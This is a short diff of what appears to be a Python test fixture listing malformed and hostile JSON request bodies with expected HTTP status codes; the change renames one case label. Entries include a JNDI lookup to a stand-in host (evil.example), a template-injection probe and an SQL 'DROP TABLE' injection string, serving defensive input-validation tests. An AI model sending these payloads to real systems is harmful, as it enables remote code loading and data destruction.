@@ -111,7 +111,7 @@ BODIES = {
     "half of a pair of letters": (rb'{"text": "\ud800"}', 400),
     "a number without end": (b'{"text": "a", "metadata": {"a": ' + b"9" * 90_000 + b"}}", 400),
     "a template": (b'{"text": "{{7*7}} ${jndi:ldap://evil.example/a}"}', 200),
-    "a quote for the database": (b"""{"id": "'; DROP TABLE records; --", "text": "a"}""", 200),
+    "a quote in an id": (b"""{"id": "'; DROP TABLE records; --", "text": "a"}""", 200),
     "a name of Python's own": (b'{"text": "a", "__class__": {"__init__": 1}}', 422),
     "ten thousand messages": (b'{"messages": [' + b"1," * 9_999 + b"1]}", 413),
     "a name to guess at": (
